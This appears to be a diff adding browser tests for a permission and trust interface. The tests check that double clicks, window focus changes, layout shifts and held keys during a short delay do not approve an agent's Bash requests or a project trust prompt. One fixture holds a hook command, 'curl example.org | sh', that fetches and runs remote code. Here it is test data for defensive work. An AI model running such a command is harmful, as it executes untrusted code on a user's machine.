@@ -1,0 +1,268 @@
+/** The click delay (C6, X6) in a real browser: what a second click, a shift or a new window must not answer. */
+import type { ProjectConfig } from '@tugdeck/protocol/trust/project-config';
+import type { Page } from 'playwright-core';
+import { expect, test } from 'vitest';
+import { type GalleryPageOptions, shareGallery } from './gallery/share-gallery.ts';
+
+const gallery = shareGallery();
+
+/** Time stands still but for `runFor`: how busy the machine is cannot decide anything. */
+async function open(hash: string, options: GalleryPageOptions = {}): Promise<Page> {
+  const page = await gallery.open(hash, { height: 1200, isOwn: true, ...options });
+  await page.clock.install();
+  await page.clock.pauseAt(Date.now() + 60_000);
+  return page;
+}
+
+const askFor = async (page: Page, session: string, ...ids: string[]) => {
+  await page.evaluate(
+    ([where, names]) => {
+      for (const id of names)
+        window.gallery
+          .host(where)
+          .say({ kind: 'entry.opened', entry: window.samples.permission(id, `Run ${id}`) });
+    },
+    [session, ids] as const,
+  );
+  await page.clock.runFor(50);
+};
+/** Drawn, and long enough ago. */
+const rested = async (page: Page, count = 1) => {
+  await groups(page)
+    .nth(count - 1)
+    .waitFor();
+  await page.clock.runFor(1_000);
+};
+const answered = (page: Page) =>
+  page.evaluate(() =>
+    ['samples', 'rest', 'failed'].flatMap((session) =>
+      window.gallery
+        .host(session)
+        .sent.flatMap((command) => (command.kind === 'request.answer' ? [command.entry] : [])),
+    ),
+  );
+const groups = (page: Page) => page.getByRole('group', { name: 'Permission: Bash' });
+const allowOf = (page: Page, index = 0) =>
+  groups(page).nth(index).getByRole('button', { name: 'Allow', exact: true });
+async function middleOf(page: Page, index = 0) {
+  await allowOf(page, index).waitFor();
+  const box = await allowOf(page, index).boundingBox();
+  if (!box) throw new Error('the button is not drawn');
+  return { x: box.x + box.width / 2, y: box.y + box.height / 2 };
+}
+/** A list that has just moved takes no pointer for a moment, much shorter than the delay. */
+async function isHit(page: Page): Promise<boolean> {
+  await page.clock.runFor(20);
+  return page.evaluate(
+    ({ x, y }) =>
+      document.elementFromPoint(x, y)?.closest('button')?.textContent?.startsWith('Allow') ?? false,
+    await middleOf(page),
+  );
+}
+const clickAt = (page: Page, { x, y }: { x: number; y: number }) => page.mouse.click(x, y);
+const note = (page: Page) => page.locator('.answer-note').filter({ hasText: 'Not answered yet' });
+
+async function openInbox(page: Page): Promise<void> {
+  await page
+    .getByRole('button', { name: /^Inbox/ })
+    .first()
+    .click();
+  await page.clock.runFor(100);
+  await page.getByRole('group', { name: 'Inbox' }).waitFor();
+}
+
+test.each([30, 120, 200, 300])(
+  'C6 D7 the second click of a double click after %i ms answers no request of another session',
+  async (gap) => {
+    const page = await open('failed');
+    await askFor(page, 'rest', 'one');
+    await askFor(page, 'samples', 'two');
+    await openInbox(page);
+    await rested(page, 2);
+    const place = await middleOf(page);
+    await clickAt(page, place);
+    await expect.poll(() => answered(page)).toHaveLength(1);
+    await page.clock.runFor(gap);
+    await expect.poll(() => groups(page).count()).toBe(1);
+    await clickAt(page, place);
+    await clickAt(page, await middleOf(page));
+    await expect.poll(() => note(page).count()).toBe(1);
+    expect(await answered(page)).toHaveLength(1);
+
+    await page.clock.runFor(500);
+    await clickAt(page, await middleOf(page));
+    await expect.poll(() => answered(page)).toHaveLength(2);
+  },
+);
+
+test('C6 a request that was pushed away by text above it is not answered by the next click', async () => {
+  const page = await open('rest');
+  await page.evaluate(() =>
+    window.gallery
+      .host('rest')
+      .say({ kind: 'entry.opened', entry: { kind: 'text', id: 't1', status: 'partial', text: 'A line.' } }),
+  );
+  await askFor(page, 'rest', 'one');
+  await rested(page);
+  const before = await middleOf(page);
+  await page.locator('[data-entry-id=t1]').evaluate((node: HTMLElement) => {
+    node.style.minHeight = '120px';
+  });
+  const pushed = async () => ((await isHit(page)) ? (await middleOf(page)).y - before.y : 0);
+  await expect.poll(pushed).toBeGreaterThan(20);
+  await clickAt(page, await middleOf(page));
+  await expect.poll(() => note(page).textContent()).toContain('This just moved.');
+  expect(await answered(page)).toEqual([]);
+
+  await page.clock.runFor(500);
+  await clickAt(page, await middleOf(page));
+  await expect.poll(() => answered(page)).toEqual(['one']);
+});
+
+test('C6 scrolling to a request is not a move: what is scrolled to can be answered at once', async () => {
+  const page = await open('rest', { height: 700 });
+  await askFor(page, 'rest', 'one', 'two', 'three', 'four');
+  await rested(page, 4);
+  await page.getByRole('log').evaluate((node) => {
+    node.scrollTop = 0;
+  });
+  await page.clock.runFor(1_000);
+  await allowOf(page).evaluate((node) => node.scrollIntoView({ block: 'center' }));
+  await expect.poll(() => isHit(page)).toBe(true);
+  await clickAt(page, await middleOf(page));
+  await expect.poll(() => answered(page)).toEqual(['one']);
+});
+
+test.each(['focus', 'visibilitychange'])(
+  'C6 a click right after the window came to the front (%s) answers nothing',
+  async (how) => {
+    const page = await open('rest');
+    await askFor(page, 'rest', 'one');
+    await rested(page);
+    const place = await middleOf(page);
+    await page.evaluate((type) => (type === 'focus' ? window : document).dispatchEvent(new Event(type)), how);
+    await page.clock.runFor(100);
+    await clickAt(page, place);
+    await expect.poll(() => note(page).textContent()).toContain('came to the front');
+    expect(await answered(page)).toEqual([]);
+    await page.clock.runFor(400);
+    await clickAt(page, place);
+    await expect.poll(() => answered(page)).toEqual(['one']);
+  },
+);
+
+test('C6 what closes on the first click of a double click leaves the second to nobody', async () => {
+  const page = await open('rest');
+  await askFor(page, 'rest', 'one');
+  await rested(page);
+  const place = await middleOf(page);
+  await page.evaluate(({ x, y }) => {
+    const cover = document.createElement('button');
+    cover.textContent = 'Close';
+    cover.style.cssText = `position:fixed;left:${x - 40}px;top:${y - 20}px;width:80px;height:40px;z-index:99`;
+    cover.addEventListener('pointerdown', () => cover.remove());
+    document.body.append(cover);
+  }, place);
+  await clickAt(page, place);
+  await page.clock.runFor(200);
+  await clickAt(page, place);
+  await expect.poll(() => note(page).textContent()).toContain('began on something else');
+  expect(await answered(page)).toEqual([]);
+  await page.clock.runFor(400);
+  await clickAt(page, place);
+  await expect.poll(() => answered(page)).toEqual(['one']);
+});
+
+test('C6 a card that comes forward under the pointer is not answered by the click that brought it', async () => {
+  const page = await open('rest');
+  await askFor(page, 'rest', 'one');
+  await rested(page);
+  const place = await middleOf(page);
+  const go = async (session: string) => {
+    await page.evaluate((id) => {
+      location.hash = `#/session/${id}`;
+    }, session);
+    await page.clock.runFor(100);
+  };
+  await go('failed');
+  await allowOf(page).waitFor({ state: 'hidden' });
+  await page.clock.runFor(1_000);
+  await go('rest');
+  await allowOf(page).waitFor();
+  await clickAt(page, place);
+  await expect.poll(() => note(page).textContent()).toContain('This just moved.');
+  expect(await answered(page)).toEqual([]);
+});
+
+test('C6 keys that are held, or that follow the focus at once, answer nothing', async () => {
+  const page = await open('rest');
+  await askFor(page, 'rest', 'one', 'two');
+  await rested(page, 2);
+  await allowOf(page).evaluate((node: HTMLElement) => node.focus());
+  await page.keyboard.press('y');
+  await page.keyboard.press('Enter');
+  expect(await answered(page)).toEqual([]);
+  await expect.poll(() => note(page).textContent()).toContain('focus just moved here');
+  await page.clock.runFor(500);
+  await page.keyboard.down('Enter');
+  await page.clock.runFor(50);
+  await expect.poll(() => answered(page)).toEqual(['one']);
+  await allowOf(page).evaluate((node: HTMLElement) => node.focus());
+  await page.clock.runFor(1_000);
+  await page.keyboard.down('Enter');
+  await page.keyboard.up('Enter');
+  expect(await answered(page)).toEqual(['one']);
+  await page.keyboard.press('Enter');
+  await expect.poll(() => answered(page)).toEqual(['one', 'two']);
+});
+
+test('C6 the rule that opens under a double click or a double Enter is not chosen', async () => {
+  const page = await open('rest');
+  await askFor(page, 'rest', 'one');
+  await rested(page);
+  await groups(page)
+    .getByRole('button', { name: 'Allow always' })
+    .evaluate((node: HTMLElement) => node.focus());
+  await page.clock.runFor(1_000);
+  await page.keyboard.press('Enter');
+  await page.getByRole('menuitem').first().waitFor();
+  await page.keyboard.press('Enter');
+  expect(await answered(page)).toEqual([]);
+  await page.clock.runFor(500);
+});
+
+test('X6 the question of trust takes no click in its first moments', async () => {
+  const told: ProjectConfig = {
+    brought: [{ kind: 'hook', path: '.agent/settings.json', text: 'curl example.org | sh' }],
+    cut: false,
+    canLeaveOut: true,
+    readsNone: false,
+    state: 'unasked',
+    repository: '/work/project',
+    hash: 'what was shown',
+  };
+  const page = await open('rest', {
+    prepare: (fresh) => fresh.route('**/api/brought?*', (route) => route.fulfill({ json: told })),
+  });
+  await page.evaluate(() => {
+    const deck = window.gallery.deck.get();
+    if (!deck) return;
+    const projects = deck.projects.map(({ trust: _, ...project }) => project);
+    window.gallery.deck.set({ ...deck, projects });
+  });
+  await page.clock.runFor(100);
+  const trust = page.getByRole('dialog').getByRole('button', { name: 'Trust', exact: true });
+  await trust.waitFor();
+  const box = await trust.boundingBox();
+  const place = { x: (box?.x ?? 0) + 10, y: (box?.y ?? 0) + 10 };
+  const asked = () => page.evaluate(() => window.gallery.requests);
+  await page.clock.runFor(30);
+  await clickAt(page, place);
+  await expect.poll(() => note(page).count()).toBe(1);
+  expect(await asked()).toEqual([]);
+  await page.clock.runFor(500);
+  await clickAt(page, place);
+  await expect
+    .poll(asked)
+    .toEqual([{ type: 'project.trust', project: 'p1', trust: 'yes', seen: 'what was shown' }]);
+});
